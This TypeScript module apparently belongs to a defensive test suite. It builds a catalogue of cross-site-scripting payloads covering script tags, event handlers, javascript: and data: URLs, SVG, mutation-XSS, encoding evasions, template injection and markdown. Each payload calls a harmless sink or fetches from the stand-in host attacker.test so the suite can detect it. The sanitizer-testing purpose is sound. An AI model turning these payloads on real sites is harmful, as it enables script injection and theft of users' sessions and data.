/**
 * Cross-site-scripting vectors for every way text enters Concord. Each payload, if it ever ran,
 * calls the global sink `__xss(<id>)` or requests `https://attacker.test/<id>`: a suite installs the
 * sink and intercepts requests, so any payload that executes or reaches out is caught by its id.
 */

/** The host every payload that fetches something points at; no request may ever go there. */
export const ATTACKER_HOST = 'attacker.test';

/** The name of the global function a payload calls when it runs. */
export const SINK = '__xss';

/** One vector: its id (in the sink call and the URL), its family and its text. */
export interface XssPayload {
	id: number;
	family: PayloadFamily;
	text: string;
}

/** The families of vectors, so a figure can say which kinds were tried. */
export type PayloadFamily =
	| 'script'
	| 'handler'
	| 'url'
	| 'svg-mathml'
	| 'frame'
	| 'css'
	| 'mutation'
	| 'encoding'
	| 'template'
	| 'markdown'
	| 'docx-link';

/** A vector given what to run (`js`) and where to reach (`url`). */
type Vector = (js: string, url: string) => string;

const b64 = (text: string) => btoa(text);

const FAMILIES: Record<PayloadFamily, Vector[]> = {
	script: [
		(js) => `<script>${js}</script>`,
		(_, url) => `<script src="${url}.js"></script>`,
		(js) => `<SCRIPT>${js}</SCRIPT>`,
		(js) => `<script type="module">${js}</script>`,
		(js) => `<scr<script>ipt>${js}</scr</script>ipt>`,
		(js) => `<script/x>${js}</script>`,
		(js) => `"><script>${js}</script>`,
		(js) => `'';!--"<XSS>=&{()}<script>${js}</script>`,
		(js) => `<script>/*</script><script>*/${js}</script>`,
		(js) => `</textarea><script>${js}</script>`,
		(js) => `</title><script>${js}</script>`,
		(js) => `<script\x20type="text/javascript">${js};</script>`
	],
	handler: [
		(js) => `<img src=x onerror=${js}>`,
		(js) => `<img src="x" onerror="${js}">`,
		(js) => `<IMG SRC=x OnErRoR=${js}>`,
		(js) => `<svg onload=${js}>`,
		(js) => `<body onload=${js}>`,
		(js) => `<details open ontoggle=${js}>`,
		(js) => `<input autofocus onfocus=${js}>`,
		(js) => `<select autofocus onfocus=${js}></select>`,
		(js) => `<textarea autofocus onfocus=${js}></textarea>`,
		(js) => `<video><source onerror=${js}></video>`,
		(js) => `<audio src=x onerror=${js}>`,
		(js) => `<marquee onstart=${js}>x</marquee>`,
		(js) => `<div onmouseover="${js}" style="position:fixed;inset:0">hover</div>`,
		(js) => `<p onclick="${js}">click me</p>`,
		(js) => `<a onfocus=${js} autofocus href=#>x</a>`,
		(js) => `<img/src/onerror=${js}>`,
		(js) => `<img src=x:x onerror&#x3d;${js}>`,
		(js) => `<object onerror=${js}>`,
		(js) => `<table background="x" onerror=${js}><tr><td>x</td></tr></table>`,
		(js) => `<style onload=${js}></style>`,
		(js) => `<form><button formaction="javascript:${js}">go</button></form>`,
		(js) => `<isindex type=image src=1 onerror=${js}>`
	],
	url: [
		(js) => `<a href="javascript:${js}">link</a>`,
		(js) => `<a href="JaVaScRiPt:${js}">link</a>`,
		(js) => `<a href="java&#x09;script:${js}">link</a>`,
		(js) => `<a href=" &#14; javascript:${js}">link</a>`,
		(js) => `<a href="javascript&colon;${js}">link</a>`,
		(js) =>
			`<a href="&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;${js}">link</a>`,
		(js) => `<a href="vbscript:${js}">link</a>`,
		(js) => `<a href="data:text/html,<script>${js}</script>">link</a>`,
		(js) => `<a href="data:text/html;base64,${b64(`<script>${js}</script>`)}">link</a>`,
		(js) => `<iframe src="javascript:${js}"></iframe>`,
		(js) => `<embed src="data:text/html,<script>${js}</script>">`,
		(js) => `<object data="javascript:${js}"></object>`,
		(_, url) => `<img src="${url}.png">`,
		(_, url) => `<img srcset="${url}.png 1x">`,
		(_, url) => `<picture><source srcset="${url}.webp"><img alt=p></picture>`,
		(_, url) => `<link rel="stylesheet" href="${url}.css">`,
		(_, url) => `<meta http-equiv="refresh" content="0;url=${url}">`,
		(_, url) => `<base href="${url}/"><a href="x">relative</a>`,
		(_, url) => `<a href="${url}" ping="${url}/ping">plain link</a>`,
		(_, url) => `<video poster="${url}.jpg"></video>`
	],
	'svg-mathml': [
		(js) => `<svg><script>${js}</script></svg>`,
		(js) => `<svg><animate onbegin=${js} attributeName=x dur=1s></svg>`,
		(js) => `<svg><a xlink:href="javascript:${js}"><text x=20 y=20>svg link</text></a></svg>`,
		(js) => `<svg><set attributeName="href" to="javascript:${js}"/></svg>`,
		(js) => `<svg><foreignObject><img src=x onerror=${js}></foreignObject></svg>`,
		(_, url) => `<svg><use href="${url}.svg#x"></use></svg>`,
		(_, url) => `<svg><image href="${url}.png"/></svg>`,
		(js) => `<math href="javascript:${js}">math</math>`,
		(js) =>
			`<math><maction actiontype="statusline" xlink:href="javascript:${js}">m</maction></math>`,
		(js) => `<svg><style>@import 'x';</style><img src=x onerror=${js}></svg>`
	],
	frame: [
		(js) => `<iframe srcdoc="<script>${js}</script>"></iframe>`,
		(js) => `<iframe srcdoc="&lt;img src=x onerror=${js}&gt;"></iframe>`,
		(_, url) => `<iframe src="${url}"></iframe>`,
		(_, url) => `<frameset><frame src="${url}"></frameset>`,
		(js) => `<iframe src="data:text/html,<script>${js}</script>"></iframe>`,
		(_, url) => `<portal src="${url}"></portal>`
	],
	css: [
		(js) => `<div style="background:url(javascript:${js})">css</div>`,
		(js) => `<div style="width:expression(${js})">css</div>`,
		(_, url) => `<style>@import '${url}.css';</style>`,
		(_, url) => `<div style="background-image:url(${url}.png)">css</div>`,
		(_, url) => `<style>body{background:url("${url}.bg")}</style>`,
		(js) => `<div style="behavior:url(${js}.htc)">css</div>`,
		(_, url) => `<style>@font-face{font-family:x;src:url(${url}.woff)}</style>`
	],
	mutation: [
		(js) => `<noscript><p title="</noscript><img src=x onerror=${js}>">`,
		(js) => `<form><math><mtext></form><form><mglyph><style></math><img src onerror=${js}>`,
		(js) => `<svg></p><style><a id="</style><img src=1 onerror=${js}>">`,
		(js) =>
			`<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=${js}&gt;">`,
		(js) => `<xmp><img src=x onerror=${js}></xmp>`,
		(js) => `<noembed><img title="</noembed><img src onerror=${js}>"></noembed>`,
		(js) => `<template><img src=x onerror=${js}></template>`,
		(js) => `<!--<img src="--><img src=x onerror=${js}//">`,
		(js) => `<![CDATA[><img src=x onerror=${js}>]]>`,
		(js) => `<listing>&lt;img src=x onerror=${js}&gt;</listing>`,
		(js) => `<a title="&lt;/a&gt;&lt;img src=x onerror=${js}&gt;">t</a>`,
		(js) => `<svg><p><style><img src=x onerror=${js}></style></p></svg>`
	],
	encoding: [
		(js) => `＜script＞${js}＜/script＞`,
		(js) => `\\u003cimg src=x onerror=${js}\\u003e`,
		(js) => `%3Cscript%3E${js}%3C/script%3E`,
		(js) => `&lt;script&gt;${js}&lt;/script&gt;`,
		(js) => `<img src=x onerror=&#95;&#95;xss&#40;${js.replace(/\D/g, '')}&#41;>`,
		(js) => `<img src=x onerror=\\u005f\\u005fxss(${js.replace(/\D/g, '')})>`,
		(js) => `<scr\u200bipt>${js}</scr\u200bipt>`,
		(js) => `<scr\u0000ipt>${js}</scr\u0000ipt>`,
		(js) => `+ADw-script+AD4-${js}+ADw-/script+AD4-`,
		(js) => `\u202e<img src=x onerror=${js}>`,
		(js) => `<img src=x onerror="&#x5f;&#x5f;xss&#x28;${js.replace(/\D/g, '')}&#x29;">`,
		(js) => `<a href="&#0000106avascript:${js}">padded entity</a>`
	],
	template: [
		(js) => `\${${js}}`,
		(js) => `{@html '<img src=x onerror=${js}>'}`,
		(js) => `{{constructor.constructor('${js}')()}}`,
		(js) => `<%= ${js} %>`,
		(js) => `#{${js}}`,
		(js) => `\`\${${js}}\``,
		(js) => `{{${js}}}`,
		(js) => `[[\${${js}}]]`,
		(js) => `{${js}}`
	],
	markdown: [
		(js) => `[click](javascript:${js})`,
		(js) => `[click](JAVASCRIPT:${js})`,
		(_, url) => `![pixel](${url}.png)`,
		(js) => `![x](javascript:${js})`,
		(js) => `[x](data:text/html;base64,${b64(`<script>${js}</script>`)})`,
		(js) => `<javascript:${js}>`,
		(js) => `[x](<javascript:${js}>)`,
		(js) => `[x][r${js.replace(/\D/g, '')}]\n\n[r${js.replace(/\D/g, '')}]: javascript:${js}`,
		(js) => `![x"onerror="${js}](x)`,
		(js) => `[x](https://a.test"onmouseover="${js})`,
		(js) => `<a href="javascript:${js}">raw html in markdown</a>`,
		(js) => `[x](&#106;avascript:${js})`
	],
	'docx-link': [
		(js) => `javascript:${js}`,
		(js) => `data:text/html,<script>${js}</script>`,
		(js) => `vbscript:${js}`,
		(js) => ` JavaScript:${js}`,
		(js) => `file:///etc/passwd#${js}`
	]
};

function build(): XssPayload[] {
	const payloads: XssPayload[] = [];
	for (const [family, vectors] of Object.entries(FAMILIES) as [PayloadFamily, Vector[]][]) {
		for (const vector of vectors) {
			const id = payloads.length + 1;
			payloads.push({
				id,
				family,
				text: vector(`${SINK}(${id})`, `https://${ATTACKER_HOST}/${id}`)
			});
		}
	}
	return payloads;
}

/** Every vector, numbered from 1. */
export const XSS_PAYLOADS: readonly XssPayload[] = build();

/** The vectors that are link targets (for DOCX hyperlinks and link fields). */
export const LINK_PAYLOADS = XSS_PAYLOADS.filter((p) => p.family === 'docx-link');

/** A marker that stands on its own line before a payload, so a test can prove each one arrived. */
export const marker = (payload: XssPayload) => `PAYLOAD-${String(payload.id).padStart(3, '0')}`;
